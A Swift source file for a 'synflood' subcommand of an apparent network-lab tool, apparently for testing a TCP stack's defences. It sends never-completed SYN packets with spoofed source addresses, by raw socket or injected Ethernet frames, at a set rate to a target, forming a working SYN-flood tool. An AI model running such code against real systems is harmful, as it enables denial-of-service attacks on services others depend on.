import ArgumentParser
import FTCPLinux
import FTCPWire
import Glibc

extension LabToolCommand {
    /// Sends SYNs that never complete, as a SYN flood does, at a set rate for a bounded time:
    /// from spoofed sources spread over a prefix (their SYN-ACKs go nowhere), or from one
    /// address whose host drops the SYN-ACKs. For the lab only: it sends to the one target
    /// given, inside namespaces the lab created.
    struct SYNFlood: ParsableCommand {
        static let configuration = CommandConfiguration(
            commandName: "synflood",
            abstract:
                "Send SYNs that are never completed to TARGET at RATE per second for SECONDS; print how many went."
        )

        @Option(help: "The server's address and port.")
        var target: String
        @Option(help: "SYNs per second.")
        var rate: Int = 10_000
        @Option(name: .customLong("seconds"), help: "How long to send, in seconds.")
        var lengthSeconds: Double = 10
        @Option(help: "Spoofed sources: a /24 or /16 prefix such as 198.51.100.0/24, or one address (/32).")
        var sources: String = "198.51.100.0/24"
        @Option(
            help:
                "Send each SYN in an Ethernet frame to this hardware address (aa:bb:cc:dd:ee:ff) on --interface, whatever host the target's address is on, instead of routing it."
        )
        var linkDestination: String?
        @Option(help: "The interface for --link-destination.")
        var interface: String = "eth0"

        func validate() throws {
            guard rate > 0, rate <= 200_000 else { throw ValidationError("--rate must be between 1 and 200000") }
            guard lengthSeconds > 0, lengthSeconds <= 120 else {
                throw ValidationError("--seconds must be above 0 and at most 120")
            }
            if let linkDestination, MACAddress(linkDestination) == nil {
                throw ValidationError("--link-destination must be a hardware address such as 02:00:00:00:99:99")
            }
            guard Self.prefix(sources) != nil else {
                throw ValidationError("--sources must be an IPv4 prefix of length 16, 24 or 32, not '\(sources)'")
            }
        }

        static func prefix(_ text: String) -> (base: UInt32, hosts: UInt32)? {
            let parts = text.split(separator: "/")
            guard parts.count == 2, let length = Int(parts[1]), [16, 24, 32].contains(length),
                let address = IPv4Address(String(parts[0]))
            else { return nil }
            let hosts: UInt32 = length == 32 ? 1 : 1 << UInt32(32 - length)
            return (address.value & ~(hosts - 1), hosts)
        }

        func run() throws {
            let server = try endpoint(target, "--target")
            let destination = IPv4Address(UInt32(bigEndian: server.address.s_addr))
            let (base, hosts) = Self.prefix(sources)!
            let socket = try RawIPv4Socket(sendBufferBytes: 4 << 20)
            let link = try linkDestination.map {
                try LinkLayerSender(interface: interface, destination: MACAddress($0)!)
            }
            var random = SystemRandomNumberGenerator()
            let total = Int(Double(rate) * lengthSeconds)
            let start = ContinuousClock.now
            var sent = 0
            var refused = 0
            var packet = [UInt8](repeating: 0, count: 64)
            while sent + refused < total {
                // Due by now at this rate; sent in a burst, then a millisecond's sleep.
                let elapsed = start.duration(to: .now)
                let due = min(
                    total,
                    Int(
                        Double(rate)
                            * (Double(elapsed.components.seconds) + Double(elapsed.components.attoseconds) / 1e18)
                    )
                )
                while sent + refused < due {
                    let host = hosts == 1 ? 0 : UInt32.random(in: 1..<(hosts - 1), using: &random)
                    let fields = TCPPacketFields(
                        source: IPv4Address(base + host),
                        destination: destination,
                        sourcePort: UInt16.random(in: 1024...65_535, using: &random),
                        destinationPort: server.port,
                        sequenceNumber: SequenceNumber(random.next()),
                        acknowledgmentNumber: SequenceNumber(0),
                        flags: [.syn],
                        window: 64_240,
                        options: [.maximumSegmentSize(1460), .sackPermitted],
                        payload: []
                    )
                    do {
                        let length = try packet.withUnsafeMutableBytes { try fields.build(into: $0) }
                        try packet.withUnsafeBytes {
                            let bytes = UnsafeRawBufferPointer(rebasing: $0[0..<length])
                            if let link { try link.send(bytes) } else { try socket.send(bytes) }
                        }
                        sent += 1
                    } catch {
                        refused += 1
                    }
                }
                usleep(1_000)
            }
            emit("synflood sent=\(sent) failed=\(refused) seconds=\(seconds(start.duration(to: .now)))")
        }
    }
}
